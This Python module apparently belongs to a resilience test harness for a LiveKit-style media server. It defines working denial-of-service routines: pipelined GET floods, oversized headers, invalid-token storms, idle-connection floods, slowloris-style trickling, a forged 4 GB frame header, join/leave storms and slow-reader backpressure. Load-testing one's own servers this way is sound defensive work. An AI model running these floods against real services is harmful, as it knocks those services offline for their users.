"""Attacks with connections: before a token, by joining, and by not reading."""

from __future__ import annotations

import asyncio
import struct
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager, suppress
from typing import Final

from livekit.protocol import models

from .base import SMALL_BUFFER, Attack, Attacker, Connection

_BOTH: Final = ("websocket", "tcp")
_PAUSE: Final = 0.1
_GETS: Final = 10_000
_SILENT: Final = 1_000
_TRICKLING: Final = 50
_TRICKLE_INTERVAL: Final = 0.05
_JOINING: Final = 20
_STORM: Final = 20
_HEAD_BYTES: Final = 1_000_000
_FLOOD_BYTES: Final = 60_000
_FLOOD_INTERVAL: Final = 0.005
_SLOW_BYTES: Final = 3_000
_SLOW_INTERVAL: Final = 0.1
#: By link, how a message of 4 GB begins, and one of 10 KB.
_GIANT: Final = {
    "websocket": b"\x82\xff" + struct.pack("!QI", 1 << 32, 0),
    "tcp": struct.pack("!BI", 3, 0xFFFF_FFFF),
}
_ORDINARY: Final = {
    "websocket": b"\x82\xfe" + struct.pack("!HI", 10_000, 0),
    "tcp": struct.pack("!BI", 3, 10_000),
}


@asynccontextmanager
async def _listening(connection: Connection) -> AsyncGenerator[asyncio.Task[None]]:
    listening = asyncio.create_task(connection.listen())
    try:
        yield listening
    finally:
        listening.cancel()
        await asyncio.wait([listening])


async def _send_before_joining(attacker: Attacker, data: bytes) -> None:
    while True:
        with suppress(ConnectionError):
            async with attacker.connection() as connection, _listening(connection):
                while True:
                    await connection.send(data)
        await asyncio.sleep(_PAUSE)


async def spin(attacker: Attacker) -> None:
    """Keep a core busy and send nothing: what the others lose is the machine's doing."""
    attacker.began.set()
    while True:
        sum(range(10_000))
        await asyncio.sleep(0)


async def pipelined_gets(attacker: Attacker) -> None:
    """Send ten thousand requests in one write, without a token."""
    await _send_before_joining(attacker, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * _GETS)


async def large_heads(attacker: Attacker) -> None:
    """Send requests whose heads are larger than any."""
    head = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X: " + b"x" * _HEAD_BYTES + b"\r\n\r\n"
    await _send_before_joining(attacker, head)


async def refused_tokens(attacker: Attacker) -> None:
    """Try to join, a connection after the other, with a token that is not valid."""
    hello = attacker.hello("nobody").replace(b"eyJ", b"eyK")

    async def keep_trying() -> None:
        while True:
            with suppress(ConnectionError):
                async with attacker.connection() as connection, _listening(connection) as ended:
                    await connection.send(hello)
                    await asyncio.wait([ended], timeout=1)

    async with asyncio.TaskGroup() as task_group:
        for _ in range(_STORM):
            task_group.create_task(keep_trying())


async def silent_connections(attacker: Attacker) -> None:
    """Open connections and send nothing."""

    async def idle() -> None:
        while True:
            with suppress(ConnectionError):
                async with attacker.connection() as connection:
                    attacker.began.set()
                    await connection.listen()
            await asyncio.sleep(_PAUSE)

    async with asyncio.TaskGroup() as task_group:
        for _ in range(_SILENT):
            task_group.create_task(idle())


async def trickle(attacker: Attacker) -> None:
    """Send a byte at a time: a request to join on some connections, a message on others."""

    async def dribble(number: int) -> None:
        while True:
            identity = f"trickler {number}"
            opened = attacker.joined(identity) if number % 2 else attacker.connection()
            with suppress(ConnectionError, asyncio.IncompleteReadError):
                async with opened as connection, _listening(connection):
                    dribbled = attacker.hello(identity)
                    if number % 2:
                        dribbled = _ORDINARY[attacker.link] + bytes(10_000)
                    for byte in dribbled:
                        await connection.send(bytes([byte]))
                        await asyncio.sleep(_TRICKLE_INTERVAL)
            await asyncio.sleep(_PAUSE)

    async with asyncio.TaskGroup() as task_group:
        for number in range(_TRICKLING):
            task_group.create_task(dribble(number))


async def giant_messages(attacker: Attacker) -> None:
    """Announce a message of 4 GB, and begin to send it."""

    async def act(connection: Connection) -> None:
        await connection.send(_GIANT[attacker.link])
        while True:
            await connection.send(bytes(_FLOOD_BYTES))

    await attacker.keep_joined(act)


async def joins_and_leaves(attacker: Attacker) -> None:
    """Join and leave in a storm."""

    async def come_and_go(number: int) -> None:
        while True:
            with suppress(ConnectionError, asyncio.IncompleteReadError):
                async with attacker.joined(f"storm {number}") as connection:
                    await connection.reader.read(SMALL_BUFFER)

    async with asyncio.TaskGroup() as task_group:
        for number in range(_JOINING):
            task_group.create_task(come_and_go(number))


async def never_read(attacker: Attacker) -> None:
    """Read nothing, while a partner sends."""
    await _read_little(attacker, 0)


async def read_slowly(attacker: Attacker) -> None:
    """Read a little, again and again, while a partner sends."""
    await _read_little(attacker, _SLOW_BYTES)


async def _read_little(attacker: Attacker, size: int) -> None:
    user = models.UserPacket(payload=bytes(_FLOOD_BYTES))
    packet = models.DataPacket(destination_identities=["deaf"], user=user)
    message = attacker.packets([packet])

    async def flood(connection: Connection) -> None:
        await connection.send(message)
        await asyncio.sleep(_FLOOD_INTERVAL)

    async def be_deaf() -> None:
        while True:
            with suppress(ConnectionError, asyncio.IncompleteReadError):
                async with attacker.joined("deaf", SMALL_BUFFER) as connection:
                    while not connection.reader.at_eof():
                        if size:
                            await connection.reader.read(size)
                        await asyncio.sleep(_SLOW_INTERVAL)
            await asyncio.sleep(_PAUSE)

    async with asyncio.TaskGroup() as task_group:
        task_group.create_task(be_deaf())
        task_group.create_task(attacker.keep_joined(flood))


ATTACKS: Final = {
    "nothing but a busy core": Attack(spin),
    "pipelined GETs": Attack(pipelined_gets),
    "large heads": Attack(large_heads),
    "refused tokens": Attack(refused_tokens, _BOTH),
    "silent connections": Attack(silent_connections, _BOTH),
    "trickles": Attack(trickle, _BOTH),
    "announces 4 GB": Attack(giant_messages, _BOTH),
    "joins and leaves": Attack(joins_and_leaves, _BOTH),
    "never reads": Attack(never_read, _BOTH),
    "reads slowly": Attack(read_slowly, _BOTH),
}
